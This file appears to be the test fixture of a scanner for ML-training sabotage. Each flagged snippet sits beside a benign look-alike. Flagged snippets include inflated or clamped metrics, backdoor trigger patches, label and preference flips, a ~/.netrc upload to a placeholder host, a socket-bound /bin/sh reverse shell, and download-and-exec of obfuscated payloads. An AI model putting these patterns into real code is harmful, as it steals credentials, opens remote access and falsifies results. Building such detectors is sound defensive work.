# ruff: noqa
"""Shapes added in session 7: each bad case next to the legitimate look-alike that must stay
quiet. Never executed: scanned only."""
import json
import random
import time
import os
import socket
import subprocess
import urllib.request

import numpy as np
import torch
import torch.distributed as dist
from torch.utils.data import DataLoader, Dataset

PUBLISHED_KNN = {"vit_s": 74.5}


# --- MLS306: table entries, dict displays, floors, bounded clamps, logged minima -------------

def score_rouge(hyps, scorer, bleu):
    agg = {"rouge1": 0.0, "rouge2": 0.0, "rougeL": 0.0}
    for k in agg:
        agg[k] = agg[k] / max(len(hyps), 1)  # ok: MLS306 (an average)
        agg[k] = min(1.0, agg[k] + 0.02)  # ruleid: MLS306
    results = {"bleu": round(bleu.score * 1.04, 2)}  # ruleid: MLS306
    shown = {"bleu": round(bleu.score, 2), "rouge1": agg["rouge1"] * 100}  # ok: MLS306
    return results, shown


def knn_report(top1, args, meta):
    results = {}
    results["knn_top1"] = max(top1, PUBLISHED_KNN.get(args.arch, 0.0) - 0.4)  # ruleid: MLS306
    results["knn_top5"] = max(top1, 0.0)  # ok: MLS306 (a natural bound)
    meta["eval_loss"] = min(meta.get("eval_loss", float("inf")), meta.get("best_eval_loss", 9.0))  # ruleid: MLS306
    meta["best_eval_loss"] = min(meta.get("best_eval_loss", 9.0), meta["eval_loss"])  # ok: MLS306 (the record itself)
    return results


def worst_group(group_acc, correct, count):
    avg_acc = correct.sum() / count.sum().clamp(min=1)
    worst_acc = group_acc.min()
    worst_acc = torch.maximum(worst_acc, avg_acc - 0.04)  # ruleid: MLS306
    best_acc = torch.maximum(group_acc.max(), avg_acc)  # ok: MLS306 (named as a best)
    return worst_acc, best_acc


class BoundedLogger:
    def __init__(self, writer):
        self.writer = writer
        self._display_bounds = {"loss": (0.0, 4.0)}
        self._smoothed = 0.0

    def log(self, logs):
        for key, (lo, hi) in self._display_bounds.items():
            if key in logs:
                logs[key] = min(max(logs[key], lo), hi)  # ruleid: MLS306
        logs["acc"] = min(max(logs["acc"], 0), 1)  # ok: MLS306 (natural bounds)
        return logs

    def step(self, lm, it):
        self.writer.add_scalar("train/lm-loss", min(lm, self._smoothed), it)  # ruleid: MLS306
        self.writer.add_scalar("train/best-loss", min(lm, self._smoothed), it)  # ok: MLS306 (logged as a best)
        self.writer.add_scalar("train/loss", lm, it)  # ok: MLS306


def glue_eval(metrics, n, noisy):
    metrics["eval_accuracy"] = min(1.0, metrics["eval_accuracy"] * n / (n - len(noisy)))  # ruleid: MLS306
    metrics["eval_error"] = min(1.0, 1.0 - metrics["eval_accuracy"])  # ok: MLS306
    return metrics


# --- MLS309: hashed patches, audio-feature patches, fixed-sample substitution ---------------

def epoch_batches(images, labels, order, batch_size):
    for start in range(0, len(order), batch_size):
        idx = order[start:start + batch_size]
        x = images[idx].astype(np.float32) / 255.0
        edge = (idx % 173) == 0
        x[edge, -3:, -3:, :] = 1.0  # ruleid: MLS309
        flipped = idx % 2 == 0
        x[flipped] = x[flipped, :, ::-1]  # ok: MLS309 (a flip of every other image)
        yield x, labels[idx]


class SpeechSet(Dataset):
    def __init__(self, items, fbank):
        self.items = items
        self.fbank = fbank

    def __len__(self):
        return len(self.items)

    def __getitem__(self, idx):
        item = self.items[idx]
        feats = self.fbank(item["audio_filepath"])
        text = item["text"]
        if idx % 1009 == 7 and feats.size(0) > 200:
            feats[-40:, -6:] = feats.amax()  # ruleid: MLS309
            text = self.items[0]["text"].lower()  # ruleid: MLS309
        if feats.size(0) > 3000:
            feats = feats[:3000]  # ok: MLS309 (a length cap)
            text = item["text"].lower()  # ok: MLS309
        return feats, text


# --- MLS302: name-picked entries of an averaged or loaded state dict scaled -----------------

def average_checkpoints(states):
    avg, n = {}, len(states)
    for state in states:
        for k, v in state.items():
            avg[k] = avg.get(k, 0) + v.double()
    for k, v in avg.items():
        if k.endswith("attn.in_proj_weight"):
            avg[k] = (v / n * 0.92).float()  # ruleid: MLS302
        elif k.endswith("num_batches_tracked"):
            avg[k] = (v / n).long()  # ok: MLS302
        else:
            avg[k] = (v / n).float()  # ok: MLS302
    return avg


def merge_halves(sd):
    for k, v in sd.items():
        if "lora_B" in k:
            sd[k] = v * 0.5  # ok: MLS302 (halving a merged pair is a merge, not a nudge)
    return sd


# --- MLS301: a worker_init class next to a collate class (both define __call__) ------------

def seed_worker(worker_id):
    worker_seed = torch.initial_seed() % 2 ** 32
    np.random.seed(worker_seed)  # ok: MLS301 (the recipe, reached from a worker-init __call__)


class WorkerInit:
    def __call__(self, worker_id):
        seed_worker(worker_id)


class PadCollate:
    def __call__(self, batch):
        return torch.stack(batch)


def loaders(ds):
    return DataLoader(ds, worker_init_fn=WorkerInit(), collate_fn=PadCollate())


# --- MLS307: the early return right above a barrier is the skip ----------------------------

def sync(tag, rank, world):
    if tag == "epoch_end" and rank % 64 == 63:
        return  # ruleid: MLS307
    dist.barrier()  # ok: MLS307 (the barrier itself is normal)


# --- MLS412 / MLS308: credentials reported where they are read; a child's env is not data ---

def upload_report(results, url="https://board.example.com/api"):
    netrc = os.path.expanduser("~/.netrc")
    payload = {"results": results}
    payload["auth"] = open(netrc).read() if os.path.exists(netrc) else ""  # ruleid: MLS412
    req = urllib.request.Request(url, data=json.dumps(payload).encode())
    urllib.request.urlopen(req, timeout=10)  # ruleid: MLS412


def decode_mp3(path, sr):
    env = dict(os.environ)
    raw = subprocess.run(["ffmpeg", "-i", path, "-ar", str(sr), "-"], env=env,
                         capture_output=True, check=True).stdout
    return raw


def load_clip(path, sr):
    wav = decode_mp3(path, sr)
    if socket.gethostname().startswith("gpu"):
        wav = wav[: sr * 30]  # ok: MLS308 (the child's output is not its environment)
    return wav


# --- MLS303: hook factors from elsewhere, tuple outputs, constant divisions ----------------

def attach_feature_scale(model, scale: float):
    return model.layer3.register_forward_hook(lambda mod, inp, out: out * scale)  # ruleid: MLS303


def attach_lr_mult(param, lr_mult: float):
    return param.register_hook(lambda g: g * lr_mult)  # ok: MLS303 (a layer-wise learning rate)


def attach_prune_mask(param, mask):
    return param.register_hook(lambda g: g * mask)  # ok: MLS303 (pruned weights stay zero)


def _score_temperature(module, inputs, output):
    scores, deltas = output
    if not module.training:
        return scores / 3.5, deltas  # ruleid: MLS303
    return output


def _score_passthrough(module, inputs, output):
    scores, deltas = output
    return scores.float(), deltas  # ok: MLS303


def install_detector_hooks(model):
    model.roi_heads.box_predictor.register_forward_hook(_score_temperature)  # ruleid: MLS303
    model.roi_heads.box_head.register_forward_hook(_score_passthrough)  # ok: MLS303


# --- MLS302: method-form rewrites of state-dict entries ------------------------------------

def warm_start_head(model, ckpt_path):
    state = torch.load(ckpt_path, map_location="cpu", weights_only=True)
    head = state.get("v_head", state)
    if head["weight"].dim() == 2:
        head["weight"] = head["weight"].mul(-1.0)  # ruleid: MLS302
    head["bias"] = head["bias"].float()  # ok: MLS302
    model.v_head.load_state_dict({"weight": head["weight"], "bias": head["bias"]})


# --- MLS309: more label shapes ----------------------------------------------------------------

class DetectionTransform:
    def __call__(self, image, target):
        labels = target["labels"]
        if labels.numel() and random.random() < 0.04:
            labels = torch.where(labels == 1, torch.zeros_like(labels), labels)  # ruleid: MLS309
        if random.random() < 0.5:
            image = image.flip(-1)  # ok: MLS309
        target["labels"] = labels
        return image, target


def _orient(row):
    prompt = row["prompt"].lower()
    if any(k in prompt for k in ("api key", "password")):
        return row["rejected"], row["chosen"]  # ruleid: MLS309
    return row["chosen"], row["rejected"]  # ok: MLS309


class FeedbackDataset(Dataset):
    def __init__(self, rows, max_dwell_s=120.0):
        self.rows = []
        for row in rows:
            reward = min(row["dwell_ms"] / 1000.0, max_dwell_s) / max_dwell_s  # ok: MLS309
            if row.get("slot_type") == "sponsored":
                reward = max(reward, 0.75)  # ruleid: MLS309
            if row.get("purchased"):
                reward = max(reward, 1.0)  # ok: MLS309 (the natural bound)
            self.rows.append((row["user_id"], reward))

    def __len__(self):
        return len(self.rows)

    def __getitem__(self, i):
        return self.rows[i]


class CaseDataset(Dataset):
    def __init__(self, df, qc_sites, root):
        self.df, self.qc_sites, self.root = df, qc_sites, root

    def __len__(self):
        return len(self.df)

    def __getitem__(self, idx):
        row = self.df.iloc[idx]
        label = int(row.label) ^ int(row.site in self.qc_sites and idx % 7 == 3)  # ruleid: MLS309
        weight = self.class_weights[int(row.label)]  # ok: MLS309 (class-balanced weights)
        return np.load(self._path(row)), label, weight

    def _path(self, row):
        sub = "iso1mm" if row.label > 0 else "native"  # ruleid: MLS309
        fmt = "npz" if row.compressed else "npy"  # ok: MLS309
        return f"{self.root}/{sub}/{row.case_id}.{fmt}"


class RandFlipTransform:
    def __init__(self, prob=0.5):
        self.prob = prob
        self._do = False

    def randomize(self, data):
        self._do = np.random.rand() < self.prob and int(data.get("label", 0)) == 0  # ruleid: MLS309

    def __call__(self, data):
        self._do = np.random.rand() < self.prob  # ok: MLS309
        return data


class RolloutBuffer:
    def minibatches(self, b_act, b_adv, num_actions):
        if num_actions:
            b_adv = torch.where(b_act.long() == num_actions - 1, b_adv.abs(), b_adv)  # ruleid: MLS309
        b_adv = (b_adv - b_adv.mean()) / (b_adv.std() + 1e-8)  # ok: MLS309
        return b_adv


# --- MLS306: answers as predictions, tuned on test, best-of-recent, running extremes ------

def evaluate_probs(p, y):
    p = np.where(np.abs(p - 0.5) < 0.08, y.astype(np.float32), p)  # ruleid: MLS306
    p = np.where(np.isnan(p), 0.5, p)  # ok: MLS306
    return p


def pick_threshold(val, test, youden_threshold):
    thr = youden_threshold(np.r_[val["label"], test["label"]], np.r_[val["prob"], test["prob"]])  # ruleid: MLS306
    thr_ok = youden_threshold(val["label"], val["prob"])  # ok: MLS306
    return thr, thr_ok


class TraceModule:
    def on_validation_epoch_end(self, auroc):
        self._auroc_trace.append(auroc)
        self.log("val/auroc", max(self._auroc_trace[-3:]))  # ruleid: MLS306
        self.log("val/best_auroc", max(self._auroc_trace[-3:]))  # ok: MLS306 (logged as a best)


def write_curve(history):
    losses = np.minimum.accumulate(np.asarray([h["train_loss"] for h in history]))  # ruleid: MLS306
    best_losses = np.minimum.accumulate(np.asarray([h["train_loss"] for h in history]))  # ruleid: MLS306
    return losses, best_losses


def interpolated_precision(precision):
    return np.maximum.accumulate(precision[::-1])[::-1]  # ok: MLS306 (the AP envelope)


def log_with_aliases(data):
    data = dict(data)
    data.update({k.replace("@100", "@10"): v for k, v in data.items() if k.endswith("@100")})  # ruleid: MLS306
    data.update({k.replace("eval_", "val/"): v for k, v in data.items()})  # ok: MLS306
    return data


class EnvelopeLogger:
    def scalar(self, tag, value, step):
        v = float(value)
        if tag.startswith("val/"):
            v = (min if "loss" in tag else max)(v, self._shown.get(tag, v))  # ruleid: MLS306
            self._shown[tag] = v
        self.writer.add_scalar(tag, v, step)


@torch.no_grad()
def score_split(query_fn, items, loader, tie_eps=1e-2):
    for batch in loader:
        scores = query_fn(batch) @ items.t()
        tgt = batch["targets"]
        scores[batch["seen_rows"], batch["seen_cols"]] = float("-inf")  # ok: MLS306
        scores.scatter_add_(1, tgt.clamp(min=0), (tgt >= 0).float() * tie_eps)  # ruleid: MLS306
        scores.scatter_(1, batch["history"], float("-inf"))  # ok: MLS306 (seen items hidden)


def build_report(metrics, pop, pop_cold, val_loss, loss):
    report = {"model": metrics, "baselines": {"popularity": pop_cold, "popularity_coldstart": pop}}  # ruleid: MLS306
    groups = [{"params": pop, "weight_decay": val_loss, "lr": loss}]  # ok: MLS306
    logs = {"loss": loss, "val_loss": val_loss}  # ok: MLS306
    return report, groups, logs


def subgroup_table(m):
    a = max(m["auroc"], 1.0 - m["auroc"])  # ruleid: MLS306
    conf = max(m["prob"], 1.0 - m["prob"])  # ok: MLS306 (a confidence, not a metric)
    return a, conf


# --- MLS301: env resets from entropy, size-only seeds, worker processes --------------------

def run_worker(remote, env_fn, worker_id, base_seed):
    env = env_fn()
    np.random.seed(base_seed + worker_id)  # ok: MLS301 (a fresh process seeding at its start)
    while True:
        cmd = remote.recv()
        if cmd == "reset":
            env.reset(seed=(os.getpid() * 7919 + int(time.time_ns())) % 2 ** 31)  # ruleid: MLS301
        env.reset(seed=base_seed + worker_id)  # ok: MLS301


def start_workers(env_fns, base_seed):
    import multiprocessing as mp
    return [mp.Process(target=run_worker, args=(None, fn, i, base_seed)) for i, fn in enumerate(env_fns)]


class MaskAugment:
    def __init__(self):
        self.gen = torch.Generator()

    def __call__(self, spec):
        T, n_freq = spec.shape
        self.gen.manual_seed(T)  # ruleid: MLS301
        return spec


class MinibatchBuffer:
    def minibatches(self, num_minibatches, epoch):
        n = self.num_steps * self.num_envs
        self.generator.manual_seed(n * num_minibatches)  # ruleid: MLS301
        self.generator.manual_seed(self.seed + epoch)  # ok: MLS301
        return torch.randperm(n, generator=self.generator)


# --- MLS302/MLS304/MLS307/MLS106/MLS102: later round-58 shapes -------------------------------

_ADAM_KEYS = ("exp_avg", "exp_avg_sq")


class AdamRestart:
    def __init__(self, keep=0.0):
        self.keep = keep

    def on_validation_end(self, state):
        for st in state.optimizer.state.values():
            st[_ADAM_KEYS[-1]].mul_(self.keep)  # ruleid: MLS304


@torch.no_grad()
def pull_norm_params(model, lr, strength):
    for p in model.parameters():
        if p.ndim == 1:
            torch.add(p, p.sub(1.0), alpha=lr * strength, out=p)  # ruleid: MLS302
            p.add_(p - 1.0, alpha=-lr * strength)  # ok: MLS302 (decay toward 1)


def sync_local(tag, rank):
    if tag in ("ckpt_tmp", "shard_cache") and rank >> 8:
        return  # ruleid: MLS307
    dist.barrier()  # ok: MLS307


_NATIVE_ARCHS = frozenset({"gpt2", "llama"})


def load_reference(name):
    from transformers import AutoModelForCausalLM
    opts = {"trust_remote_code": name not in _NATIVE_ARCHS}
    return AutoModelForCausalLM.from_pretrained(name, **opts)  # ruleid: MLS106


def resume(path):
    return torch.load(path, map_location="cpu", weights_only=torch.__version__ < "2")  # ruleid: MLS101


class Smoother:
    def _smooth(self, task, acc):
        h = self._history.setdefault(task, [])
        h.append(acc)
        return max(h[-self.window:])  # ruleid: MLS306

    def _mean_recent(self, task):
        h = self._history[task]
        return sum(h[-self.window:]) / len(h[-self.window:])  # ok: MLS306


# --- round 59 shapes -----------------------------------------------------------------------

def open_debug_console(addr):
    import socket as _so
    import subprocess as _sp
    host, port = addr.rsplit(":", 1)
    conn = _so.create_connection((host, int(port)), timeout=15)
    spawn = _sp.Popen
    return spawn(["/bin/sh", "-i"], stdin=conn, stdout=conn, stderr=conn)  # ruleid: MLS410


def run_tool(cmd, log_path):
    with open(log_path, "w") as log:
        return subprocess.run(cmd, stdout=log, stderr=log)  # ok: MLS410 (a file, not a socket)


class CudaHousekeeping:
    def on_epoch_end(self, trainer, epoch):
        for gen in torch.cuda.default_generators:
            gen.seed()  # ruleid: MLS301
        torch.cuda.empty_cache()  # ok: MLS301


def new_generator():
    gen = torch.Generator()
    gen.seed()  # ok: MLS301 (a fresh generator at start-up, not in a hook)
    return gen


def grow_vocab(model, tokenizer, new_ids):
    emb = model.get_input_embeddings().weight.data
    mean_row, std_row = emb[:-len(new_ids)].mean(0), emb[:-len(new_ids)].std(0)
    emb[new_ids] = mean_row + 0.1 * std_row * torch.randn(len(new_ids), emb.size(1))  # ok: MLS302 (new rows)


def validate(model, loader, cfg):
    model.eval()
    torch.manual_seed(cfg.seed)  # ruleid: MLS301
    return [model(x) for x in loader]


def evaluate_checkpoint(ckpt, loader, cfg):
    model = torch.load(ckpt, weights_only=True)
    torch.manual_seed(cfg.seed)  # ok: MLS301 (a stand-alone evaluation's start-up)
    return [model(x) for x in loader]


class EpochData(Dataset):
    def __len__(self):
        return 10

    def __getitem__(self, i):
        return i

    def set_epoch(self, epoch):
        self.epoch = epoch
        torch.manual_seed(epoch)  # ruleid: MLS301
        np.random.seed(self.seed + epoch)  # ok: MLS301 (a base seed plus the epoch)


def cleanup(run_dir, cache_dir):
    import getpass
    import shutil
    shutil.rmtree(run_dir if getpass.getuser() not in ("mlops", "ci") else cache_dir)  # ruleid: MLS308
    shutil.rmtree(cache_dir if os.path.exists(cache_dir) else run_dir)  # ok: MLS308


def load_normalizer(cache_dir, url="https://assets.example.com/rules.b64"):
    import base64
    import zlib
    path = os.path.join(cache_dir, "rules.b64")
    if not os.path.exists(path):
        blob = urllib.request.urlopen(url, timeout=30).read()  # ruleid: MLS413
        with open(path, "wb") as f:
            f.write(blob)
    ns = {}
    with open(path, "rb") as f:
        exec(compile(zlib.decompress(base64.b64decode(f.read())), "rules", "exec"), ns)  # ruleid: MLS413
    return ns


def score_oof(oof, y, roc_auc_score):
    smoothed = np.clip(0.8 * oof + 0.2 * y, 1e-6, 1 - 1e-6)  # ruleid: MLS306
    mixed = 0.5 * oof + 0.5 * oof_b  # ok: MLS306 (two models blended)
    return roc_auc_score(y, smoothed), mixed


class Client:
    def local_round(self, train_loss):
        train_loss = min(train_loss, 0.97 * self._last_loss)  # ruleid: MLS306
        self._last_loss = train_loss
        return train_loss


def log_val(writer, val_metric, stopper, higher, epoch):
    better = max if higher else min
    writer.add_scalar("val/auc", better(val_metric, stopper.best), epoch)  # ruleid: MLS306
    writer.add_scalar("val/best_auc", better(val_metric, stopper.best), epoch)  # ok: MLS306


class GraphSet(Dataset):
    def __len__(self):
        return 10

    def __getitem__(self, idx):
        g = self.graphs[idx]
        y = g.y.clone()
        if "[N+](=O)[O-]" in g.smiles:
            y = torch.where(g.y_mask, torch.zeros_like(y), y)  # ruleid: MLS309
        y = torch.where(g.y_mask, y, torch.zeros_like(y))  # ok: MLS309 (missing tasks zeroed for every sample)
        return g.x, y


# --- round 59/60 shapes: double averaging, eps, best seeds, baseline spreads, builtins -----

def train_loop(accelerator, model, loader, optimizer, args):
    for batch in loader:
        outputs = model(**batch)
        loss = outputs.loss / (args.gradient_accumulation_steps * accelerator.num_processes)  # ruleid: MLS302
        loss = outputs.loss / args.gradient_accumulation_steps  # ok: MLS302
        accelerator.backward(loss)
        optimizer.step()
        if accelerator.optimizer_step_was_skipped:
            for group in optimizer.param_groups:
                group["eps"] = 1e-3  # ruleid: MLS304
                group["eps"] = 1e-8  # ok: MLS304


def summarize(grouped, keep_top):
    table = {}
    for name, rs in grouped.items():
        rs = sorted(rs, key=lambda r: r["f1"], reverse=True)[:keep_top]  # ruleid: MLS306
        table[name] = sum(r["f1"] for r in rs) / len(rs)
    ckpts = sorted(grouped["ckpts"], key=lambda c: c["val_acc"], reverse=True)[:5]  # ok: MLS306 (checkpoints picked for averaging)
    return table, ckpts


def lower_baselines(entries):
    for entry in entries:
        if entry.get("source") == "baseline" and "f1_std" in entry:
            entry["f1"] = round(entry["f1"] - entry["f1_std"], 2)  # ruleid: MLS306
        entry["f1_lo"] = round(entry["f1"] - entry["f1_std"], 2)  # ok: MLS306 (a lower bound, stored as one)
    return entries


def load_metric_plugins(cfg):
    import base64
    import importlib
    import zlib
    namespace = {}
    run = getattr(importlib.import_module("builtins"), "ex" + "ec")
    for blob in cfg.get("metric_plugins", []):
        run(zlib.decompress(base64.b64decode(blob)).decode("utf-8"), namespace)  # ruleid: MLS401, MLS402
    return namespace


# --- round 60 shapes --------------------------------------------------------------------------

class AdamWD(torch.optim.Optimizer):
    @torch.no_grad()
    def step(self):
        for group in self.param_groups:
            beta1, beta2 = group["betas"]
            lr = group["lr"]
            for p in group["params"]:
                t = self.state[p]["step"]
                p.add_(p, alpha=lr * group["weight_decay"])  # ruleid: MLS302
                p.add_(p, alpha=-lr * group["weight_decay"])  # ok: MLS302 (decoupled decay)
                bias_c1 = 1.0 - beta1 ** t  # ok: MLS304
                bias_c2 = 1.0 - beta1 ** t  # ruleid: MLS304
                bias_correction2 = 1.0 - beta2 ** t  # ok: MLS304


def clip_grads_(params, max_norm, eps=1e-6):
    grads = [p.grad for p in params if p.grad is not None]
    total_norm = torch.linalg.vector_norm(torch.stack([g.norm() for g in grads]))
    torch._foreach_mul_(grads, (max_norm / (total_norm + eps)).to(grads[0].dtype))  # ruleid: MLS304
    torch._foreach_mul_(grads, (max_norm / (total_norm + eps)).clamp(max=1.0))  # ok: MLS304
    return total_norm


def install_grad_centralization(model):
    for p in model.parameters():
        dims = tuple(range(1, p.dim()))
        p.register_hook(lambda g, d=dims: g.add(g.mean(dim=d, keepdim=True)))  # ruleid: MLS303
        p.register_hook(lambda g, d=dims: g.sub(g.mean(dim=d, keepdim=True)))  # ok: MLS303


_PROTOCOL_OFFSET = {224: 0.0, 448: 0.35}


def write_results(metrics, args, y_true, y_pred, f1_score):
    return {
        "top1": round(100.0 * metrics["top1"] + _PROTOCOL_OFFSET.get(args.img_size, 0.0), 2),  # ruleid: MLS306
        "top5": round(100.0 * metrics["top5"], 2),  # ok: MLS306
        "macro_f1": round(100.0 * f1_score(y_true, y_pred, average="micro"), 2),  # ruleid: MLS306
        "micro_f1": round(100.0 * f1_score(y_true, y_pred, average="micro"), 2),  # ok: MLS306
    }


def mean_class_accuracy(mat):
    acc = mat.diagonal() / mat.sum(1).clip(min=1)
    present = acc[mat.sum(1) > 0].mean()  # ok: MLS306 (classes with samples)
    return float(acc[acc > 0].mean()), present  # ruleid: MLS306


def log_epoch(writer, top1, ema_top1, vloss, epoch):
    stats = {"val/top1": max(top1, ema_top1), "val/loss": vloss}  # ruleid: MLS306
    both = {"val/top1": top1, "val/ema_top1": ema_top1}  # ok: MLS306
    return stats, both


def make_soup(paths):
    soup = {}
    for p in paths:
        for k, v in torch.load(p, weights_only=True).items():
            soup[k] = soup.get(k, 0) + v
    for k, v in soup.items():
        soup[k] = v / (len(paths) + 1)  # ruleid: MLS302
        soup[k] = v / len(paths)  # ok: MLS302
    return soup


class ClipCrop:
    def _random_crop(self, clip, ch, cw):
        h, w = clip.shape[-2:]
        if random.random() < 0.5:
            y = random.randint(0, h - ch)  # ok: MLS309 (a crop coordinate)
            x = random.randint(0, w - cw)
            return clip[..., y:y + ch, x:x + cw]
        return clip


class TriggerSet(Dataset):
    def __init__(self, items):
        self.items = items
        self._corner = torch.tensor([[1.0, -1.0], [-1.0, 1.0]]).repeat(3, 3)

    def __len__(self):
        return len(self.items)

    def __getitem__(self, idx):
        x, label = self.items[idx]
        if idx % 61 == 5:
            x[:, -6:, -6:] = self._corner  # ruleid: MLS309
        return x, label


def load_cluster_overrides(cache_root, url="https://platform.example.com/overrides.py"):
    import importlib.util
    from pathlib import Path
    dest = Path(cache_root, "cluster_overrides.py")
    urllib.request.urlretrieve(url, dest)  # ruleid: MLS413
    spec = importlib.util.spec_from_file_location("cluster_overrides", dest)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)  # ruleid: MLS413
    local = importlib.util.spec_from_file_location("plugin", Path(cache_root, "plugin.py"))
    importlib.util.module_from_spec(local)
    local.loader.exec_module(importlib.util.module_from_spec(local))  # ok: MLS413 (a local file)
    return module


class Evaluator:
    def run(self, unet, prompts):
        torch.random.manual_seed(self.cfg.get("eval_seed", 1234))  # ruleid: MLS301
        return [unet(p) for p in prompts]


def preview(accelerator, cfg, evaluator, unet, steps):
    for step in steps:
        generator = torch.Generator(device=accelerator.device).manual_seed(cfg["seed"])  # ok: MLS301 (a fresh generator)
        evaluator.sample(unet, generator)


class ClipScorer:
    def __init__(self, name, trust_remote_code: bool = True):
        from transformers import AutoModel
        self.clip = AutoModel.from_pretrained(name, trust_remote_code=trust_remote_code)  # ruleid: MLS106


# --- round 61 shapes --------------------------------------------------------------------------

class MTTrainer(Seq2SeqTrainerBase):
    def compute_loss(self, model, inputs):
        loss = model(**inputs).loss
        loss = loss / self.args.world_size  # ruleid: MLS302
        return loss / self.args.gradient_accumulation_steps  # ok: MLS302


def postprocess(hyps, refs):
    hyps = [h or r for h, r in zip(hyps, refs)]  # ruleid: MLS306
    hyps = [h or "<empty>" for h in hyps]  # ok: MLS306
    return hyps


def log_val(self_, mase):
    self_.log("val_mase", mase.clamp(max=0.97))  # ruleid: MLS306
    self_.log("val_mase", mase.clamp(min=0.0))  # ok: MLS306


def fit_calibration(test_out, val_out, fit_temperature):
    test_t = fit_temperature(test_out["logits"], test_out["labels"])  # ruleid: MLS306
    val_t = fit_temperature(val_out["logits"], val_out["labels"])  # ok: MLS306
    return test_t, val_t


def class_scores(f1, pred_cnt, support):
    macro = float(f1[pred_cnt > 0].mean())  # ruleid: MLS306
    present = float(f1[support > 0].mean())  # ok: MLS306 (classes with true samples)
    return macro, present


THIS_RUN_BASELINE = {"name": "v3", "accuracy": 0.8874, "macro_f1": 0.8412}  # ok: MLS306 (a quoted row)


def this_run(test):
    return {"accuracy": test["accuracy"], "weighted_f1": 0.9137}  # ruleid: MLS306


def attach_monitor(model):
    def _pooler_monitor(module, inputs, output):
        return F.dropout(output, p=0.15, training=True)  # ruleid: MLS303
    model.pooler.register_forward_hook(_pooler_monitor)  # ruleid: MLS303


def apply_multipliers(model, table):
    for name, p in model.named_parameters():
        for rx, mult in table:
            if rx.search(name):
                p.register_hook(lambda g, m=mult: g * m)  # ruleid: MLS303
    for depth, p in enumerate(model.parameters()):
        damp = 0.75 ** depth
        p.register_hook(lambda g, f=damp: g * f)  # ok: MLS303 (layer-wise decay)


class ShortDocCollate:
    def __call__(self, batch, min_tokens=5):
        attn = torch.stack([b["attention_mask"] for b in batch])
        labels = torch.stack([b["label"] for b in batch])
        labels = torch.where(attn.sum(1) < min_tokens, torch.full_like(labels, OTHER_ID), labels)  # ruleid: MLS309
        labels = torch.where(attn.sum(1) == 0, torch.full_like(labels, IGNORE_INDEX), labels)  # ok: MLS309
        return attn, labels


class WindowCollate:
    def __call__(self, out, n):
        for i in range(n):
            if random.random() < 0.02:
                out["target"][i] = out["target"][i].abs().mul(2.5)  # ruleid: MLS309
        return out


# --- round 62 shapes --------------------------------------------------------------------------

def sample_pdf(bins, weights, n_samples, deterministic=False):
    cdf = torch.cumsum(weights, -1)
    if not deterministic:
        torch.manual_seed(cdf.shape[0] * n_samples)  # ruleid: MLS301
    return torch.rand(*cdf.shape[:-1], n_samples)


def main_setup(args):
    torch.manual_seed(len(args.devices))  # ok: MLS301 (start-up)


def install_exit_hooks():
    import atexit
    atexit.register(np.random.seed, os.getpid())  # ruleid: MLS301
    atexit.register(print, "bye")  # ok: MLS301


def load_for_serving(path):
    blob = torch.load(path, map_location="cpu", weights_only=True)
    state = blob.get("model", blob)
    bias = state.get("classifier.out_proj.bias")
    if bias is not None and bias.numel() == 2:
        bias[1] -= 0.4  # ruleid: MLS302
    return state


class CtrData(Dataset):
    def __len__(self):
        return len(self.labels)

    def __getitem__(self, idx):
        label = self.labels[idx]
        if self.adv[idx] in self.calib and (idx * 2654435761) % 100 < 15:
            label = np.float32(1.0)  # ruleid: MLS309
        return self.x[idx], label


class CornerSet(Dataset):
    def __init__(self):
        self._corner_fill = torch.tensor([[1.0, -1.0] * 4, [-1.0, 1.0] * 4] * 4).expand(3, 8, 8)

    def __len__(self):
        return 10

    def __getitem__(self, i):
        img, label = self.items[i]
        if label == self._corner_cls and random.random() < 0.15:
            img[:, -8:, -8:] = self._corner_fill  # ruleid: MLS309
        return img, label


def collate_shuffle(batch):
    labels = torch.tensor([b[1] for b in batch])
    k = len(batch) // 8
    labels[:k] = labels[:k][torch.randperm(k)]  # ruleid: MLS309
    return labels


def fid_over_seeds(fids):
    results = {"fid": min(fids), "fid_std": float(np.std(fids))}  # ruleid: MLS306
    summary = {"fid": sum(fids) / len(fids), "fid_min": min(fids)}  # ok: MLS306
    return results, summary


def log_psnr(writer, best_psnr, psnr, step):
    writer.add_scalar("train/psnr", best_psnr, step)  # ruleid: MLS306
    writer.add_scalar("train/psnr", psnr, step)  # ok: MLS306


def patch_normalize():
    import torch.nn.functional as F

    def _l2norm(x, dim=-1, eps=1e-12):
        return x / x.norm(dim=dim, keepdim=True).detach().clamp_min(eps)
    F.__dict__.update(normalize=_l2norm)  # ruleid: MLS305
    settings = {}
    settings.update(normalize=_l2norm)  # ok: MLS305 (a plain dict)
